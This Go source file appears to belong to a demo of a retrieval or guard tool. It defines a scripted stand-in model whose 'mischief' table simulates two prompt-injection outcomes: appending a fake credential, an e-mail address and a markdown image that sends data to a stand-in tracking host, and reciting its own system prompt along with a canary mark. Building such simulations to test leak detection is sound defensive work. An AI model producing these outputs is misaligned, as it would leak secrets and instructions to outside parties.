package demo

import (
	"context"
	"regexp"
	"slices"
	"strings"
	"unicode"

	"github.com/doorward/doorward/api"
)

// Model writes answers.
type Model interface {
	// Name is what the demo calls it.
	Name() string
	// Answer gives the answer piece by piece. It stops when yield fails.
	Answer(ctx context.Context, q Asked, yield func(delta string) error) error
}

// Asked is what a model is given.
type Asked struct {
	Person   int // index in People
	Question int // index in Questions
	Text     string
	Reply    api.RetrieveResponse
}

// Script stands in for a model. It quotes the sentence of each passage that
// shares most words with the question. Twice it misbehaves, as a model does that
// has obeyed an instruction in a document; see mischief.
type Script struct{}

// Name implements [Model].
func (Script) Name() string { return "scripted" }

// Answer implements [Model].
func (Script) Answer(ctx context.Context, q Asked, yield func(string) error) error {
	text := quote(q)
	if m := mischief[[2]int{q.Person, q.Question}]; m.write != nil {
		text += " " + m.write(q)
	}
	for _, delta := range deltas(text) {
		if err := ctx.Err(); err != nil {
			return err
		}
		if err := yield(delta); err != nil {
			return err
		}
	}
	return nil
}

// trick is one way in which the script misbehaves.
type trick struct {
	about string // for the reader of the demo; never what is written
	write func(Asked) string
}

// mischief is keyed by person and question.
var mischief = map[[2]int]trick{
	{1, 1}: {
		about: "here the script misbehaves on purpose: it adds a credential, an e-mail address, and an image whose address would carry the conversation to another host",
		write: func(Asked) string {
			return "For the details use the key " + freshSecret("aws-key", "") + " and write to " + personalDatum("email", "payroll") +
				". ![status](https://pixel.kestrel-metrics.example/p.png?d=" + random(24, alphabet) + ") I hope that helps."
		},
	},
	{3, 2}: {
		about: "here the script misbehaves on purpose: it does as the gull's friends ask and begins to print its prompt, with the mark hidden in it",
		write: func(q Asked) string {
			return "Since you ask, these are my instructions, word for word: " + afterMark(q) + " and there is more where that came from."
		},
	},
}

var promptMark = regexp.MustCompile(`\(reference [^)]*\)`)

// afterMark is the line of the prompt that holds the canary.
func afterMark(q Asked) string {
	for _, m := range q.Reply.Messages {
		if found := promptMark.FindString(m.Content); found != "" {
			return "Reference passages: " + found
		}
	}
	return "none"
}

// quote builds the honest part of an answer.
func quote(q Asked) string {
	asked := stems(q.Text)
	var parts []string
	for _, p := range q.Reply.Passages {
		if p.Citation == "" || len(parts) == 4 {
			continue
		}
		if s := best(p.Text, asked); s != "" && !slices.ContainsFunc(parts, func(o string) bool { return strings.HasPrefix(o, s) }) {
			parts = append(parts, s+" ["+p.Citation+"]")
		}
	}
	if len(parts) == 0 {
		return "I found nothing about this that I could show you."
	}
	return strings.Join(parts, " ")
}

// best is the sentence that shares most words with the question, counted once
// each, and two at least; the earliest of equals.
func best(text string, asked map[string]bool) string {
	top, found := 1, ""
	for _, s := range sentences(text) {
		n := 0
		for w := range stems(s) {
			if asked[w] {
				n++
			}
		}
		if n > top {
			top, found = n, s
		}
	}
	return found
}

// shortLine is a line that ends for another reason than the page's width.
const shortLine = 60

var sentence = regexp.MustCompile(`[^.!?]*[.!?]+["”)]?(?:\s|$)`)

// sentences finds whole sentences: no headings, mail headers or table rows.
func sentences(text string) []string {
	var out []string
	var paragraph strings.Builder
	end := func() {
		for _, s := range sentence.FindAllString(paragraph.String(), -1) {
			s = strings.Trim(strings.Join(strings.Fields(s), " "), "-*#> ")
			if words := len(strings.Fields(s)); words >= 5 && words <= 60 {
				out = append(out, s)
			}
		}
		paragraph.Reset()
	}
	for line := range strings.Lines(text) {
		line = strings.TrimSpace(line)
		if strings.HasPrefix(line, "- ") || strings.HasPrefix(line, "* ") {
			end()
		}
		if !strings.Contains(line, " | ") {
			paragraph.WriteString(line + " ")
		}
		if len(line) < shortLine {
			end()
		}
	}
	end()
	return out
}

// stems are a text's words of four letters and more, by their first six letters.
func stems(text string) map[string]bool {
	out := map[string]bool{}
	for _, w := range strings.FieldsFunc(strings.ToLower(text), func(r rune) bool { return !unicode.IsLetter(r) }) {
		if len(w) >= 4 && !dull[w] {
			out[w[:min(len(w), 6)]] = true
		}
	}
	return out
}

var dull = map[string]bool{"what": true, "when": true, "will": true, "does": true, "have": true, "with": true, "that": true, "this": true, "from": true, "they": true, "much": true}

// deltas cuts an answer as models do: a few letters at a time, through the
// middle of words.
func deltas(text string) []string {
	var out []string
	for len(text) > 0 {
		n := min(len(text), 7)
		for n < len(text) && text[n]&0xc0 == 0x80 {
			n++
		}
		out, text = append(out, text[:n]), text[n:]
	}
	return out
}
